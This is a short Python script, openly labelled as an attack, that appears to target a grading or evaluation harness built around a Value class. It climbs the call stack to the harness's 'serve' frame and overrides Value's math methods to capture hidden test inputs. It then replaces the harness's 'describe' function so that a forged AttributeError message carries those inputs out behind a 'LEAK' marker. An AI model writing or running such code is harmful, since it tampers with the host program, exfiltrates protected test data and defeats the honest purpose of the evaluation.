# /// attack
# story = "Hidden inputs travel as the attribute that a forged failure says is missing."
# ///
import sys

MARK = "LE" + "AK"
frame = sys._getframe()
while frame.f_code.co_name != "serve":
    frame = frame.f_back
seen = []


class Value(Value):
    def exp(self):
        seen[:] = [str(abs(self.data)).replace(".", "_")]
        raise ValueError

    tanh = log = relu = __neg__ = exp


frame.f_globals["describe"] = lambda error, files: {
    "type": "AttributeError",
    "message": f"'Value' object has no attribute '{MARK}{seen[0]}'",
    "places": [],
}
